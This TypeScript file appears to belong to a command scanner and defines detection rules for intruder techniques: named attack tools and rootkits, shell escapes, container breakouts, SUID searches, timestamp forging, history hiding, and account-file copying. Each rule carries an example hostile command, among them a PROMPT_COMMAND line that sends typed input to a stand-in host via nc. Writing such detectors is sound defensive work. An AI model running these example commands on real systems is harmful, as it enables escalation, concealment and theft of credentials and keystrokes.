// Rules about what intruders do with everyday tools: see, hide, keep a way in, take along. Tables from a tool to its words.

import { INTERPRETER_NAMES, interpreterName, SHELLS } from '../../carriers/wrappers.ts'
import { resolvePath } from '../../line/paths.ts'
import { baseName, matching, redirectedTo, said, says } from '../../model.ts'
import { changed, loadsShared, only, plainWordsOf, type Rules, tools } from '../kit.ts'

/** Programs made for breaking in, and for staying unseen, by the names under which their authors give them out. */
const ATTACK_TOOLS = tools(
  `lazagne mimipenguin linpeas winpeas linenum lse linux-exploit-suggester linux-exploit-suggester-2 les linux-smart-enumeration unix-privesc-check
  autosuid suid3num pspy pspy32 pspy64 pspy32s pspy64s gtfonow traitor deepce cdk-linux amicontained peirates kubeletctl pacu stratus cloudfox
  msfconsole msfvenom msfdb meterpreter sliver sliver-server sliver-client merlin havoc covenant empire starkiller villain hoaxshell weevely pupy
  chisel ligolo ligolo-ng revsocks reptile diamorphine suterusu azazel jynx beurk bdvl kbeast adore-ng enyelkm bpfdoor triplecross ebpfkit pidhide
  hydra medusa ncrack patator crowbar thc-hydra crackmapexec netexec nxc evil-winrm bloodhound-python kerbrute responder impacket-secretsdump
  secretsdump bettercap ettercap arpspoof dsniff sslstrip mitm6 routersploit beef-xss setoolkit sqlmap commix wpscan nikto xsser aircrack-ng
  aireplay-ng wifite reaver swaks gophish
  john hashcat hcxdumptool brutespray masscan zmap unicornscan slowloris goldeneye torshammer thc-ssl-dos t50 steghide outguess iodine dnscat dnscat2 dns2tcpc dns2tcpd ptunnel icmpsh icmptunnel hans godoh poshc2 koadic mythic deimosc2
  nimplant wstunnel
  earthworm microsocks 3proxy xmrig xmr-stak cpuminer minerd ccminer cgminer t-rex nbminer lolminer ethminer phoenixminer`,
)
const ATTACKS = new Set(ATTACK_TOOLS)
/** Names that servers and frameworks share; the attack has options, the others have verbs. */
const HOMONYMS = /^(?:hydra|medusa)$/
const plainName = (path: string): string =>
  baseName(path)
    .toLowerCase()
    .replace(/\.(?:sh|py|pl|rb|elf|ko)$/, '')
const RUNS_FILES: readonly string[] = [...INTERPRETER_NAMES, ...SHELLS, 'source', '.', 'modprobe', 'insmod']

/** A shell, and nothing for it to run, in a call of another program. Each class has a bound, so that it is found in linear time. */
const SHELL_CALL =
  /(?:\b(?:system|exec\w{0,8}|spawn\w{0,8}|popen\w{0,8}|call|run|Popen|passthru|shell_exec|terminal|shell)\b[\s("'[,:{]{0,8}|\bshell=|![\s"']{0,8})(?:exec\s{1,8}["']?)?(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k|c|tc|fi)?sh["',\s-]{0,8}(?:[ipl]{1,3}\b["',\s]{0,8})?(?:reset;?["',\s]{0,8})?(?:0?[<>]&\d\s{0,4}){0,4}&?["'\s]{0,8}(?:$|[;,)\]}#])/m
const CALLERS: readonly string[] = [
  ...INTERPRETER_NAMES,
  ...tools(
    'awk gawk mawk nawk vi vim nvim view ed ex gdb man less more ftp tclsh expect irb psql sqlite3 mysql',
  ),
]

/** Names by which files hide: blanks at the end, more dots than `..`, a kernel thread's brackets. */
const DISGUISED =
  /(?:^|\/)(?:\.{3,}|\.{1,2}\s+|[^/]*[^/\s\\]\s+|\[(?:k\w|migration|rcu|watchdog|scsi|events)[^\]/]{0,60}\])(?:\/|$)/

/** A file directly in a directory that is open to all; directories below it mostly belong to one user. */
const OPEN_TO_ALL = /^\/(?:tmp|var\/tmp|dev\/shm)\/[^/]+$/

/** Code that sends or writes what it reads. */
const TAKES_ALONG = /write|send|post|upload|socket|requests|urllib|fetch|copy|zip|base64|encode/i

/** Files that list accounts, in the quotes of another language. */
const ACCOUNT_LIST = /^\/etc\/(?:passwd|group)-?$/

/** What the shell itself runs before each prompt, and that hands the typed line on. */
const HANDS_ON =
  /^(?:PROMPT_COMMAND|PS0)=.*(?:\b(?:logger|tee|nc|ncat|socat|curl|wget|ssh|mail)\b|>>|\/dev\/(?:tcp|udp)\/)/s

export const INTRUSION_RULES: Rules = [
  {
    id: 'attack-tool',
    level: 'moderate',
    why: 'Runs a program made for breaking into machines, for hiding on them, or for using them to earn money.',
    finds: `
      hping3|nping --flood|--rand-source|--rand-dest
      ${ATTACK_TOOLS.flatMap((name) => [name, `${name}.sh`, `${name}.py`]).join('|')} !--help|--version !~asks
      ${RUNS_FILES.join('|')} {attack}`,
    named: {
      // A server's name has verbs behind it.
      asks: (_arg, c) => said(c) === '-h' || (HOMONYMS.test(c.name) && !says(c, /^-/)),
      attack: ({ text }) => ATTACKS.has(plainName(text)),
    },
    example: 'bash linpeas.sh',
  },
  {
    id: 'runs-from-shared',
    level: 'moderate',
    why: 'Runs a file from a directory in which every user and program can put files.',
    finds: `
      * ~program
      * ~loads
      go run {shared}
      ${[...INTERPRETER_NAMES, ...SHELLS, '.', 'source', 'mongosh'].join('|')} {shared} !-c|-e|-m`,
    named: {
      // By its absolute path only: who works in such a directory runs their own files there.
      program: (_arg, { path, scope }) => path[0] === '/' && OPEN_TO_ALL.test(resolvePath(path, scope)),
      loads: (_arg, c) => loadsShared(plainWordsOf(c), c.name),
      shared: ({ text }, { scope }) => text[0] === '/' && OPEN_TO_ALL.test(resolvePath(text, scope)),
    },
    example: 'sh /tmp/install.sh',
    yields: true,
  },
  {
    id: 'password-in-words',
    level: 'moderate',
    why: 'Shows the password to every user of this machine, who can see the words of running programs, and to the history.',
    finds: String.raw`
      sudo input<word>? -S|--stdin
      chpasswd input<pair>?
      sshpass /^-p ?\S/
      zip|zipcloak|unzip /(?:^| )(?:-P|--password[= ]?) ?\S/
      7z|7za|7zz|rar|unrar /(?:^| )-h?p[^ ]/
      mysql|mysqldump|mysqladmin|mariadb|mariadb-dump|mysqlimport /(?:^| )(?:-p[^ ]|--password=\S)/
      mongo|mongosh|mongodump|mongorestore /(?:^| )(?:-p|--password)[= ](?!-)\S|mongodb(?:\+srv)?://[^: /]{1,200}:[^@ ]{1,200}@/
      psql|pg_dump|pg_restore|pgcli /postgres(?:ql)?://[^: /]{1,200}:[^@ ]{1,200}@/
      redis-cli|valkey-cli /(?:^| )(?:-a|--pass) \S/
      openssl /(?:^| )-(?:pass|passin|passout|k|password) (?!(?:file|env|fd|stdin|prompt)\b)(?:pass:)?\S/
      gpg|gpg2 /--passphrase[= ]\S/
      ldapadd|ldapmodify|ldapsearch|ldapdelete|ldappasswd /(?:^| )-w ?\S/
      smbclient|rpcclient|smbget|mount.cifs /(?:^| )(?:-U|--user=?) ?[^ ]+%|password=/
      wget /--(?:http-|ftp-)?password=\S/
      xfreerdp|rdesktop|freerdp|wfreerdp /(?:^| )(?:/p:|-p )(?!-(?: |$))\S/
      docker|podman|nerdctl /^login .*(?:-p|--password)[= ](?!-)\S/
      htpasswd /^-[a-zA-Z]*b/
      useradd|usermod /(?:^| )(?:-p|--password)[= ]\S/
      keytool /-(?:store|key)pass \S/
      sqlcmd /(?:^| )-P ?\S/
      sqlplus /^[^ /]{1,200}/[^ @]{1,200}@/
      ansible|ansible-playbook /(?:ansible_(?:ssh_|become_)?pass(?:word)?|ansible_sudo_pass)=\S/
      svn /--password[= ]\S/
      ccrypt|ccencrypt|ccdecrypt /(?:^| )(?:-K|--key) ?\S/`,
    named: { word: /\S/, pair: /:\S/ },
    example: 'sshpass -p hunter2 ssh me@host',
  },
  {
    id: 'shell-escaped',
    level: 'moderate',
    why: 'Opens a shell from inside another program, where nothing that watches your shell sees it.',
    finds: `
      tar|gtar|bsdtar /(?:--checkpoint-action=exec=|--to-command[= ]|--use-compress-program[= ]|-I ?)(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh(?: |$)/
      zip /(?:-TT|--unzip-command) ?(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh(?: |$)/
      rsync /(?:-e|--rsh)[= ](?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh(?: |$)/
      ssh|scp|sftp /(?:ProxyCommand|LocalCommand|KnownHostsCommand)[= ];?(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh(?: |$)/
      find|gfind -exec|-execdir|-ok|-okdir=<shell>
      ${CALLERS.join('|')}|cpan words<call>
      _ input<call>`,
    named: {
      shell: (arg, { args }) =>
        SHELLS.has(baseName(arg.text)) && /^(?:;|-[ipl]+)$/.test(args[args.indexOf(arg) + 1]?.text ?? ';'),
      call: SHELL_CALL,
    },
    example: `awk 'BEGIN {system("/bin/sh")}'`,
    yields: true,
  },
  {
    id: 'records-person',
    level: 'moderate',
    why: 'Records the screen, the keys, the camera or the microphone, with whatever is secret in it.',
    finds: String.raw`
      xwd /-root/
      import /-window root/
      gnome-screenshot|scrot|maim|xfce4-screenshooter|spectacle|flameshot|grim /^/
      arecord|parecord|parec /^(?!.*(?:-l|--list-devices|-L|--help|--version))/
      ffmpeg /-f (?:x11grab|kmsgrab|alsa|pulse|avfoundation|v4l2)\b/
      xinput /^(?:test|--test)\b/
      showkey|logkeys|evtest /^(?!.*(?:-h|--help))/
      xspy /^/
      streamer|fswebcam /^/
      cat|dd|xxd|od|hexdump|tee /(?:^|[ =])/dev/input/(?:event|by-)/`,
    example: 'xwd -root -out /tmp/screen.xwd',
  },
  {
    id: 'authority-trusted',
    level: 'moderate',
    why: 'Trusts another certificate authority, whose owner can then read and change encrypted connections.',
    finds: String.raw`
      update-ca-certificates|update-ca-trust /^(?!.*(?:--help|-h)\b)/
      trust /^anchor (?!.*--remove)/
      certutil /(?:^| )-A\b.{0,300} -t ?['"]?[A-Za-z]{0,8}C/
      security /^add-trusted-cert\b/
      mkcert /^-install\b/`,
    example: 'sudo update-ca-certificates',
  },
  {
    id: 'host-entered',
    level: 'moderate',
    why: 'Opens a shell with the rights of root or of another part of the machine.',
    finds: String.raw`
      nsenter /(?:^| )(?:-t ?1|--target[= ]1|-a|--all)(?: |$)/
      capsh /(?:^| )--(?: |$)/
      unshare /(?:^| )(?:-[a-zA-Z]{0,8}r[a-zA-Z]{0,8}|--map-root-user)(?: |$)/
      pkexec /^(?:--\S{1,40} )*(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh(?: |$)/
      sudo /(?:^| )(?:-u ?|--user[= ])#-1(?: |$)|^(?:-R|--chroot)/
      systemd-run /--uid[= ](?:0|root)\b.{0,300}\b(?:ba|z|da)?sh$/
      ctr|crictl /^(?:-\S{1,40} )*run .{0,300}--(?:privileged|with-ns|mount)\b/
      kubectl|k|oc /^run .{0,600}(?:--privileged\b|"(?:privileged|hostPID|hostNetwork)" ?: ?true|"hostPath")/
      curl /^(?=.*(?:-X ?P|-d|--data|/(?:create|start|exec|kill|archive)\b)).*/(?:docker|containerd|podman|crio)\.sock\b/
      socat|nc|ncat //(?:docker|containerd|podman|crio)\.sock\b/
      debugfs /(?:^| )(?:-w|-[Rf])/`,
    example: 'nsenter -t 1 -m -u -i -n sh',
  },
  {
    id: 'rights-searched',
    level: 'moderate',
    why: 'Searches for files through which anybody can get the rights of root.',
    finds: `
      getcap @root|system -r
      find|gfind -perm=<rights>`,
    named: { rights: /^[-/]?(?:0?[246]000|[ugoa,+=]*[ug]\+?=?s\S*)$/ },
    example: 'find / -perm -4000',
  },
  {
    id: 'time-forged',
    level: 'moderate',
    why: 'Gives a file or the machine another time, so that records no longer tell when something happened.',
    finds: `
      hwclock --set|--hctosys|-s
      timedatectl set-time
      timedatectl set-ntp 0|no|false
      touch -r|--reference|-t|-d|--date=<any>
      date -s|--set=<any>`,
    named: { any: /^/ },
    example: 'touch -r /bin/ls /tmp/x',
  },
  {
    id: 'history-partial',
    level: 'moderate',
    why: 'Leaves commands out of the shell’s history from now on.',
    finds: '* sets<unkept>',
    named: { unkept: /^HIST(?:CONTROL|IGNORE)=.*(?:ignore(?:space|both)|\*)/s },
    example: 'export HISTCONTROL=ignorespace',
  },
  {
    id: 'prompt-hands-on',
    level: 'moderate',
    why: 'Hands every line that is typed from now on to another program or place.',
    finds: '* sets<handing>',
    named: { handing: HANDS_ON },
    example: `export PROMPT_COMMAND='history 1 | nc log.example 514'`,
  },
  {
    id: 'name-disguised',
    level: 'moderate',
    why: 'Uses a name that hides in lists of files or of processes, or looks like one of the kernel’s.',
    finds: `
      exec -a=<odd>
      cp|mv|ln|install last<disguised>
      touch <disguised>
      touch <option>`,
    named: {
      odd: /^\[|^\s|\s$/,
      disguised: ({ text }, { scope }) =>
        DISGUISED.test(text) || /^\/(?:tmp|var\/tmp|dev\/shm)\/\.[\w-]/.test(resolvePath(text, scope)),
      // A file with the name of an option changes what `tar *` or `chown *` does later.
      option: /^(?:\.\/)?--[a-z-]+/,
    },
    example: "cp tool '/tmp/... '",
  },
  {
    id: 'accounts-copied',
    level: 'moderate',
    why: 'Takes the list of accounts to another place.',
    tools: [
      ...tools(
        'cp zip tar gzip bzip2 xz 7z openssl gpg ccencrypt ccrypt base64 xxd scp rsync curl wget nc ncat socat cat',
      ),
      ...INTERPRETER_NAMES,
    ],
    when: (c, o) => {
      if (interpreterName(c.name) !== undefined)
        return matching(c.args, /(["'])\/etc\/(?:passwd|group)\1/).filter(({ text }) =>
          TAKES_ALONG.test(text),
        )
      const read = [
        ...c.args.filter((arg) => ACCOUNT_LIST.test(arg.text.replace(/^.*[@=]/, ''))),
        ...matching(redirectedTo(c, /^<$/), ACCOUNT_LIST),
      ]
      if (read.length === 0) return undefined
      const away = changed(c, o).some((arg) => !/^\/(?:etc|dev)\//.test(resolvePath(arg.text, c.scope)))
      return only(c.name === 'cat' || c.name === 'cp' ? away : true, read)
    },
    example: 'cp /etc/passwd /tmp/passwd',
  },
]
